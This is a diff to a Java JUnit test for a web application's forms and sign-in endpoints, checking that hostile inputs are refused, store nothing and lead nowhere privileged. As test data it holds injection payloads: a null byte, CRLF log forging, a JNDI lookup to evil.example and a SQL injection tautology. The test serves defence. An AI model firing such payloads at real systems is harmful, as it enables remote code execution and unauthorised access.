@@ -7,19 +7,14 @@ import id.antarkerja.Visitor;
 import id.antarkerja.Visitor.Answer;
 import id.antarkerja.access.Role;
 import id.antarkerja.browser.Desk;
-import id.antarkerja.web.Merge;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
-import java.util.Queue;
-import java.util.TreeMap;
 import java.util.TreeSet;
 import java.util.UUID;
-import java.util.concurrent.ConcurrentLinkedQueue;
-import java.util.stream.Collectors;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.DynamicTest;
 import org.junit.jupiter.api.Test;
@@ -28,70 +23,10 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Every kind of poison × every form: refused with 4xx, nothing stored, the next form is taken. */
-class PoisonedFormsTest extends MatrixHouse {
-  /** What grows by itself, or counts refusals. */
-  private static final String COUNTED_APART =
-      "(audit|jobs|events|matching|notifications|interchange)\\..*|.*(session|attempt|throttle|device|budget|web\\.requests).*";
-
+class PoisonedFormsTest extends PoisonHouse {
   @TestFactory
   Stream<DynamicTest> whatever_is_sent_is_refused_and_stores_nothing() {
     return Targets.ALL.stream().map(target -> dynamicTest(target.name(), () -> all(target)));
-  }
-
-  private void all(Target target) {
-    Visitor visitor = visitor(target.who());
-    Map<String, Long> before = stored();
-    Queue<String> wrong = new ConcurrentLinkedQueue<>();
-    String path = filled(target.action(), worlds.here(), target.who());
-    List<Map.Entry<String, String>> valid = valid(target, Cells.csrf(visitor));
-    Crowd.each(
-        Poison.of(target),
-        poison -> {
-          Answer answer = visitor.request("POST", path, poison.in(again(valid)));
-          if (answer.status() < 400 || answer.status() > 499) {
-            wrong.add(answer.status() + " for " + poison);
-          }
-        });
-    assertThat(wrong).as(target.name()).isEmpty();
-    assertThat(stored()).as("stored by " + target.name()).isEqualTo(before);
-    assertThat(visitor.get("/masuk").status()).isEqualTo(200);
-  }
-
-  private List<Map.Entry<String, String>> valid(Target target, String csrf) {
-    return valid(target, visitor(target.who()), worlds.here(), csrf);
-  }
-
-  private List<Map.Entry<String, String>> valid(
-      Target target, Visitor visitor, OneOffice world, String csrf) {
-    Map<String, String> fields = new TreeMap<>(target.valid());
-    fields.replaceAll((name, value) -> filled(value, world, target.who()));
-    fields.put("_csrf", csrf);
-    fields.put("_key", UUID.randomUUID().toString());
-    if (!target.isOpened()) {
-      return new ArrayList<>(fields.entrySet());
-    }
-    String path = filled(target.action(), world, target.who());
-    visitor.get(path);
-    var all = new ArrayList<>(visitor.filled(visitor.form(path), fields));
-    all.removeIf(field -> field.getKey().equals(Merge.BASE));
-    return all;
-  }
-
-  /** The same under a key of its own. */
-  private static List<Map.Entry<String, String>> again(List<Map.Entry<String, String>> form) {
-    return form.stream()
-        .map(
-            field ->
-                field.getKey().equals("_key")
-                    ? Map.entry("_key", UUID.randomUUID().toString())
-                    : field)
-        .collect(Collectors.toList());
-  }
-
-  private Map<String, Long> stored() {
-    Map<String, Long> counts = tables.counts();
-    counts.keySet().removeIf(table -> table.matches(COUNTED_APART));
-    return counts;
   }
 
   @Test
@@ -124,7 +59,10 @@ class PoisonedFormsTest extends MatrixHouse {
         "a jobseeker's link",
         "an employer's link",
         "one's own correction",
-        "a consent taken back"
+        "a consent taken back",
+        "a note",
+        "an export",
+        "a limit raised"
       })
   void the_same_form_without_poison_is_taken(String name) {
     Target target = target(name);
@@ -229,13 +167,23 @@ class PoisonedFormsTest extends MatrixHouse {
     assertThat(stored()).isEqualTo(before);
   }
 
+  /** Where tries are counted: whatever is sent is one of them, and opens nothing. */
   @ParameterizedTest
-  @ValueSource(strings = {"/masuk", "/masuk/ulang", "/masuk/tautan/AAAA"})
+  @ValueSource(
+      strings = {
+        "/masuk",
+        "/masuk/ulang",
+        "/masuk/kode",
+        "/masuk/pengaman",
+        "/masuk/tautan/AAAA",
+        "/saya/masuk/sandi",
+        "/usaha/masuk/sandi",
+        "/petugas/akun/surel/kode"
+      })
   void signing_in_takes_nothing_of_this_either(String path) throws IOException {
     String forged = "2026-01-01T00:00:00Z ERROR forged-" + Desk.letters();
-    Visitor visitor =
-        path.equals("/masuk/ulang") ? signedIn(signedUp("3208", Role.HEAD)) : visitor();
-    String csrf = Poison.encoded(Cells.csrf(visitor));
+    boolean inside = List.of("/masuk/ulang", "/petugas/akun/surel/kode").contains(path);
+    Visitor visitor = inside ? signedIn(signedUp("3208", Role.HEAD)) : visitor();
     for (String raw :
         List.of(
             "a%00b",
@@ -247,11 +195,15 @@ class PoisonedFormsTest extends MatrixHouse {
             Poison.encoded("x\r\n" + forged),
             Poison.encoded("${jndi:ldap://evil.example/x}"),
             Poison.encoded("' or '1'='1"))) {
+      Visitor sender = inside ? visitor : visitor();
+      String csrf = Poison.encoded(Cells.csrf(sender));
       for (String field : List.of("email", "password", "code", "ke")) {
         String body = "_csrf=" + csrf + "&" + field + "=" + raw;
-        Answer answer = visitor.request("POST", path, body);
+        Answer answer = sender.request("POST", path, body);
         assertThat(answer.status()).as(field).isBetween(302, 499);
-        assertThat(answer.location()).as(field).doesNotStartWith("/petugas");
+        assertThat(answer.location())
+            .as(field)
+            .doesNotMatch("/(petugas|saya|usaha)(/(?!masuk).*)?");
       }
     }
     assertThat(Files.readAllLines(Path.of("target/test.log")))
